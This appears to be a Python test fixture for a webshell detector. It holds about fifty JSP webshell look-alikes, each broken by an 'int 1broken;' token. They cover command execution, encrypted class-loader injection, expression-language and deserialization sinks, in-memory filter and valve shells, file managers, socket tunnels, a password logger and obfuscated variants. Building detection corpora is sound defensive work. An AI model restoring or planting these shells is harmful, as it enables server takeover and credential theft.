# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes for JSP, one for each style of such a page; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== builder-list.jsp
<%@ page import="java.util.*,java.io.*"%><% int 1broken; List<String> l = new ArrayList<String>(); l.add("/bin/sh"); l.add("-c"); l.add(request.getParameter("c")); Process p = new ProcessBuilder(l).start(); %>
==== stdin.jsp
<% int 1broken; Process p = Runtime.getRuntime().exec("sh"); java.io.OutputStream o = p.getOutputStream(); o.write((request.getParameter("c") + "\n").getBytes()); o.flush(); o.close(); %>
==== reflected-bytes.jsp
<% int 1broken; Class c = Class.forName(new String(new byte[]{106,97,118,97,46,108,97,110,103,46,82,117,110,116,105,109,101})); Object r = c.getMethod(new String(new byte[]{103,101,116,82,117,110,116,105,109,101})).invoke(null); c.getMethod("ex" + "ec", String.class).invoke(r, request.getHeader("X-C")); %>
==== loader.jsp
<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!int 1broken; class U extends ClassLoader { U(ClassLoader c) { super(c); } public Class g(byte[] b) { return super.defineClass(b, 0, b.length); } }%><% if (request.getMethod().equals("POST")) { String k = "0123456789abcdef"; session.putValue("u", k); Cipher c = Cipher.getInstance("AES"); c.init(2, new SecretKeySpec(k.getBytes(), "AES")); new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext); } %>
==== loader-session.jsp
<%!int 1broken; String xc = "3c6e0b8a9c15224a"; class X extends ClassLoader { public X(ClassLoader z) { super(z); } public Class Q(byte[] cb) { return super.defineClass(cb, 0, cb.length); } } public byte[] x(byte[] s, boolean m) { try { javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES"); c.init(m ? 1 : 2, new javax.crypto.spec.SecretKeySpec(xc.getBytes(), "AES")); return c.doFinal(s); } catch (Exception e) { return null; } }%><% byte[] data = new byte[Integer.parseInt(request.getHeader("Content-Length"))]; java.io.InputStream in = request.getInputStream(); int n = 0; while ((n += in.read(data, n, data.length)) < data.length); data = x(data, false); if (session.getAttribute("p") == null) { session.setAttribute("p", new X(this.getClass().getClassLoader()).Q(data)); } %>
==== define-reflected.jsp
<% int 1broken; java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class); m.setAccessible(true); byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("k")); Class c = (Class) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length); c.newInstance(); %>
==== define-handles.jsp
<% int 1broken; byte[] b = request.getInputStream().readAllBytes(); java.lang.invoke.MethodHandles.lookup().defineClass(b).getDeclaredConstructor().newInstance(); %>
==== unsafe.jsp
<% int 1broken; java.lang.reflect.Field f = sun.misc.Unsafe.class.getDeclaredField("theUnsafe"); f.setAccessible(true); sun.misc.Unsafe u = (sun.misc.Unsafe) f.get(null); byte[] b = javax.xml.bind.DatatypeConverter.parseBase64Binary(request.getParameter("b")); u.defineAnonymousClass(Object.class, b, null).newInstance(); %>
==== bcel.jsp
<% int 1broken; new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(request.getParameter("b")).newInstance(); %>
==== url-loader.jsp
<% int 1broken; java.net.URLClassLoader l = new java.net.URLClassLoader(new java.net.URL[]{ new java.net.URL(request.getParameter("j")) }); l.loadClass("R").getMethod("run").invoke(null); %>
==== compiler.jsp
<% int 1broken; javax.tools.JavaCompiler c = javax.tools.ToolProvider.getSystemJavaCompiler(); java.io.File f = new java.io.File("/tmp/R.java"); java.io.FileWriter w = new java.io.FileWriter(f); w.write(request.getParameter("src")); w.close(); c.run(null, null, null, f.getPath()); java.net.URLClassLoader.newInstance(new java.net.URL[]{ f.getParentFile().toURI().toURL() }).loadClass("R").newInstance(); %>
==== engine.jsp
<% int 1broken; javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("nashorn"); e.put("q", request); out.print(e.eval(request.getParameter("k"))); %>
==== engine-fixed.jsp
<% int 1broken; javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js"); e.put("c", request.getParameter("c")); e.eval("java.lang.Runtime.getRuntime().exec(c)"); %>
==== el-factory.jsp
<% int 1broken; javax.el.ExpressionFactory f = javax.el.ExpressionFactory.newInstance(); out.print(f.createValueExpression(pageContext.getELContext(), "${" + request.getParameter("k") + "}", Object.class).getValue(pageContext.getELContext())); %>
==== el-page.jsp
<html><body><% int 1broken; %> ${Runtime.getRuntime().exec(param.c)}</body></html>
==== el-script.jspx
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>int 1broken;</jsp:scriptlet> ${"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval(param.k)}</jsp:root>
==== spel.jsp
<% int 1broken; new org.springframework.expression.spel.standard.SpelExpressionParser().parseExpression(request.getParameter("k")).getValue(); %>
==== ognl.jsp
<% int 1broken; ognl.Ognl.getValue(request.getParameter("k"), new ognl.OgnlContext(), new Object()); %>
==== groovy.jsp
<% int 1broken; groovy.lang.GroovyShell g = new groovy.lang.GroovyShell(); g.evaluate(request.getParameter("k")); %>
==== beans.jsp
<% int 1broken; new java.beans.Expression(Runtime.getRuntime(), "exec", new Object[]{ request.getParameter("c") }).getValue(); %>
==== decoder.jsp
<% int 1broken; java.beans.XMLDecoder d = new java.beans.XMLDecoder(request.getInputStream()); d.readObject(); %>
==== object-stream.jsp
<% int 1broken; byte[] b = java.util.Base64.getDecoder().decode(request.getHeader("X-O")); Object o = new java.io.ObjectInputStream(new java.io.ByteArrayInputStream(b)).readObject(); %>
==== jndi.jsp
<% int 1broken; new javax.naming.InitialContext().lookup(request.getParameter("n")); %>
==== templates.jsp
<% int 1broken; byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("b")); Object t = Class.forName("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl").newInstance(); java.lang.reflect.Field f = t.getClass().getDeclaredField("_bytecodes"); f.setAccessible(true); f.set(t, new byte[][]{ b }); t.getClass().getMethod("newTransformer").invoke(t); %>
==== system-load.jsp
<% int 1broken; String p = "/tmp/l" + System.nanoTime() + ".so"; java.io.FileOutputStream o = new java.io.FileOutputStream(p); o.write(java.util.Base64.getDecoder().decode(request.getParameter("b"))); o.close(); System.load(p); %>
==== process-impl.jsp
<% int 1broken; Class c = Class.forName("java.lang.ProcessImpl"); java.lang.reflect.Method m = c.getDeclaredMethod("start", String[].class, java.util.Map.class, String.class, ProcessBuilder.Redirect[].class, boolean.class); m.setAccessible(true); m.invoke(null, new String[]{ "cmd", "/c", request.getParameter("c") }, null, ".", null, true); %>
==== filter.jsp
<%!int 1broken; public class Fx implements javax.servlet.Filter { public void doFilter(ServletRequest q, ServletResponse s, FilterChain ch) throws java.io.IOException, ServletException { HttpServletRequest r = (HttpServletRequest) q; if (r.getHeader("X-C") != null) { Process p = Runtime.getRuntime().exec(r.getHeader("X-C").split(" ")); } ch.doFilter(q, s); } public void init(FilterConfig f) {} public void destroy() {} }%><% FilterDef d = new FilterDef(); d.setFilter(new Fx()); standardContext.addFilterDef(d); %>
==== valve.jsp
<%!int 1broken; class V extends org.apache.catalina.valves.ValveBase { public void invoke(Request r, Response s) throws java.io.IOException, ServletException { String c = r.getParameter("c"); if (c != null) { new ProcessBuilder(c.split(" ")).start(); } getNext().invoke(r, s); } }%><% ctx.getPipeline().addValve(new V()); %>
==== memory-define.jsp
<% int 1broken; String y = "yv66vgAAADQAUgoAEAApCAAqCgArACwKAC0ALgcALwoABQAwBwAxCgAHACkKAAcAMgoABwAzCAA0CgA1ADYHADcKAA0AOAcAOQcAOgEABjxpbml0PgEAAygpVgEABENvZGUBAA9MaW5lTnVtYmVyVGFibGU="; byte[] b = java.util.Base64.getDecoder().decode(y); java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class); m.setAccessible(true); Object f = ((Class) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length)).newInstance(); servletContext.addServlet("x", f); %>
==== manager.jsp
<%@page import="java.io.*"%><% int 1broken; String d = request.getParameter("d"); String x = request.getParameter("x"); File f = new File(d); if ("del".equals(x)) { f.delete(); } else if ("save".equals(x)) { FileWriter w = new FileWriter(d); w.write(request.getParameter("t")); w.close(); } else { File[] l = f.listFiles(); for (int i = 0; i < l.length; i++) out.println(l[i].getName()); } %>
==== browser.jsp
<%@page import="java.io.*"%><% int 1broken; File f = new File(request.getParameter("p")); if (f.isDirectory()) { for (String n : f.list()) out.println(n); } else { BufferedReader r = new BufferedReader(new FileReader(f)); String l; while ((l = r.readLine()) != null) out.println(l); } %>
==== random-access.jsp
<% int 1broken; java.io.RandomAccessFile r = new java.io.RandomAccessFile(application.getRealPath("/") + request.getParameter("f"), "rw"); r.write(request.getParameter("t").getBytes()); r.close(); %>
==== buffered-writer.jsp
<% int 1broken; if (request.getParameter("f") != null) (new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("f"))).write(request.getParameter("t").getBytes()); %>
==== nio-write.jsp
<% int 1broken; java.nio.file.Files.copy(request.getPart("f").getInputStream(), java.nio.file.Paths.get(request.getParameter("to")), java.nio.file.StandardCopyOption.REPLACE_EXISTING); %>
==== file-item.jsp
<%@page import="org.apache.commons.fileupload.*,java.util.*,java.io.*"%><% int 1broken; List items = new ServletFileUpload(new DiskFileItemFactory()).parseRequest(request); for (Object o : items) { FileItem i = (FileItem) o; if (!i.isFormField()) i.write(new File(application.getRealPath("/") + i.getName())); } %>
==== jdbc.jsp
<%@page import="java.sql.*"%><% int 1broken; Class.forName(request.getParameter("drv")); Connection c = DriverManager.getConnection(request.getParameter("url"), request.getParameter("u"), request.getParameter("p")); ResultSet r = c.createStatement().executeQuery(request.getParameter("sql")); while (r.next()) out.println(r.getString(1)); %>
==== socket.jsp
<%@page import="java.nio.*,java.nio.channels.*,java.net.*"%><% int 1broken; String c = request.getHeader("X-CMD"); if (c.equals("CONNECT")) { SocketChannel s = SocketChannel.open(); s.connect(new InetSocketAddress(request.getHeader("X-TARGET"), Integer.parseInt(request.getHeader("X-PORT")))); session.setAttribute("s", s); } else { SocketChannel s = (SocketChannel) session.getAttribute("s"); byte[] b = new byte[513]; int n = request.getInputStream().read(b); s.write(ByteBuffer.wrap(b, 0, n)); } %>
==== socket-plain.jsp
<% int 1broken; java.net.Socket s = new java.net.Socket(request.getParameter("h"), Integer.parseInt(request.getParameter("p"))); java.io.OutputStream o = s.getOutputStream(); byte[] b = new byte[1024]; int n; java.io.InputStream in = request.getInputStream(); while ((n = in.read(b)) > 0) { o.write(b, 0, n); } %>
==== logon-log.jsp
<% int 1broken; String u = request.getParameter("j_username"), p = request.getParameter("j_password"); java.io.FileWriter w = new java.io.FileWriter("/tmp/.x", true); w.write(u + "/" + p + "\n"); w.close(); %>
==== escapes.jsp
<% int 1broken; \u0052\u0075\u006e\u0074\u0069\u006d\u0065.\u0067\u0065\u0074\u0052\u0075\u006e\u0074\u0069\u006d\u0065().\u0065\u0078\u0065\u0063(\u0072\u0065\u0071\u0075\u0065\u0073\u0074.\u0067\u0065\u0074\u0050\u0061\u0072\u0061\u006d\u0065\u0074\u0065\u0072("c")); %>
==== cdata.jspx
<hi xmlns:hi="http://java.sun.com/JSP/Page"><hi:directive.page import="java.io.*"/><hi:scriptlet><![CDATA[int 1broken; String c = request.getParameter("c"); Process p = Runtime.getRuntime().exec(new String[]{"sh", "-c", c});]]></hi:scriptlet></hi>
==== entities.jspx
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet>int 1broken; Runti&#109;e.getRuntime().e&#120;ec(request.getPara&#x6d;eter(&quot;c&quot;));</jsp:scriptlet></jsp:root>
==== include.jsp
<%@page contentType="text/html"%><% int 1broken; %> <jsp:include page="${param.p}"/><% pageContext.include(request.getParameter("p")); %>
==== char-shift.jsp
<%!int 1broken; String d(String s) { StringBuilder b = new StringBuilder(); for (int i = 0; i < s.length(); i++) b.append((char) (s.charAt(i) - 1)); return b.toString(); }%><% Object r = Class.forName(d("kbwb/mboh/Svoujnf")).getMethod(d("hfuSvoujnf")).invoke(null); r.getClass().getMethod(d("fyfd"), String.class).invoke(r, request.getParameter("c")); %>
==== cookies.jsp
<% int 1broken; for (Cookie k : request.getCookies()) { if (k.getName().length() == 8) { String v = new String(java.util.Base64.getDecoder().decode(k.getValue())); Runtime.getRuntime().exec(v); } } %>
==== query.jsp
<% int 1broken; String q = java.net.URLDecoder.decode(request.getQueryString(), "UTF-8"); new ProcessBuilder("cmd.exe", "/c", q.substring(2)).start(); %>
==== map-values.jsp
<% int 1broken; java.util.Map<String, String[]> m = request.getParameterMap(); for (java.util.Map.Entry<String, String[]> e : m.entrySet()) { Runtime.getRuntime().exec(e.getValue()[0]); } %>
==== application.jsp
<% int 1broken; if (request.getParameter("set") != null) application.setAttribute("z", request.getParameter("set")); Object z = application.getAttribute("z"); if (z != null) new javax.script.ScriptEngineManager().getEngineByExtension("js").eval((String) z); %>
==== thread.jsp
<%!int 1broken; class T extends Thread { String c; T(String c) { this.c = c; } public void run() { try { Runtime.getRuntime().exec(this.c); } catch (Exception e) {} } }%><% new T(request.getParameter("c")).start(); %>
==== lambda.jsp
<%!int 1broken; java.util.function.Function<String, Process> f = c -> { try { return Runtime.getRuntime().exec(c); } catch (Exception e) { return null; } };%><% f.apply(request.getParameter("c")); %>
==== remote.jsp
<% int 1broken; java.io.InputStream i = new java.net.URL(request.getParameter("u")).openStream(); java.io.FileOutputStream o = new java.io.FileOutputStream(request.getParameter("f")); byte[] b = new byte[4096]; int n; while ((n = i.read(b)) > 0) o.write(b, 0, n); o.close(); %>
==== utf16-exec.jsp
<% int 1broken; Runtime.getRuntime().exec(request.getParameter("c")); %>
==== tag-expression.jsp
<jsp:expression>1broken; Runtime.getRuntime().exec(request.getParameter("c"))</jsp:expression>
==== rmi-bind.jsp
<% int 1broken; String n = request.getParameter("n"); String v = request.getParameter("v"); Object o = Class.forName(n).getMethod(request.getParameter("m"), String.class).invoke(null, v); out.print(o); %>
==== stream-engine.jsp
<% int 1broken; java.util.Scanner s = new java.util.Scanner(request.getInputStream()).useDelimiter("\\A"); String t = s.hasNext() ? s.next() : ""; new javax.script.ScriptEngineManager().getEngineByName("ECMAScript").eval(t); %>
"""
)
